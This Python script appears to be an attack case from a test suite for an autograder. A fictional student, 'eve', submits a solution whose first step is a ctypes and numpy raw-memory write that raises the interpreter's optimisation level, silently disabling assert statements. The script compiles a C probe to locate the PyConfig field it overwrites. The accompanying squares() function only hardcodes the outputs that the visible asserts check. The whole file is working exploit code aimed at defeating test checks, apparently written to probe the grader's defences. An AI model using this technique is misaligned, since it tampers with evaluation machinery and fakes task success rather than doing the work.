# eve's squares() passes the visible asserts only; her solution cell first flips the interpreter's
# optimisation level with a raw-memory write. The offset of PyConfig.optimization_level comes
# from this host's Python headers (compiled here, as a student would look it up).
import os
import subprocess
import sys
import sysconfig
import tempfile

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from attack_setup import submit_with_solution

with tempfile.TemporaryDirectory() as build:
    probe = os.path.join(build, "offset")
    subprocess.run(["cc", "-I", sysconfig.get_paths()["include"], "-x", "c", "-", "-o", probe],
                   input=b"#include <Python.h>\n#include <stdio.h>\n#include <stddef.h>\n"
                         b"int main(void) { printf(\"%zu\", offsetof(PyConfig, optimization_level)); }\n",
                   check=True)
    offset = int(subprocess.run([probe], capture_output=True, check=True).stdout)

submit_with_solution(sys.argv[1], "eve", "squares", f"""import ctypes, numpy
config = ctypes.pythonapi._PyInterpreterState_GetConfig
config.restype, config.argtypes = ctypes.c_void_p, [ctypes.c_void_p]
interpreter = ctypes.pythonapi.PyInterpreterState_Get
interpreter.restype = ctypes.c_void_p
class Raw:
    __array_interface__ = {{'shape': (1,), 'typestr': '<i4',
                           'data': (config(interpreter()) + {offset}, False), 'version': 3}}
numpy.asarray(Raw())[0] = 2
exec(compile('assert False', '<student>', 'exec'))
print('asserts off for student code')

def squares(n):
    return [1, 4, 9][:n]
""")
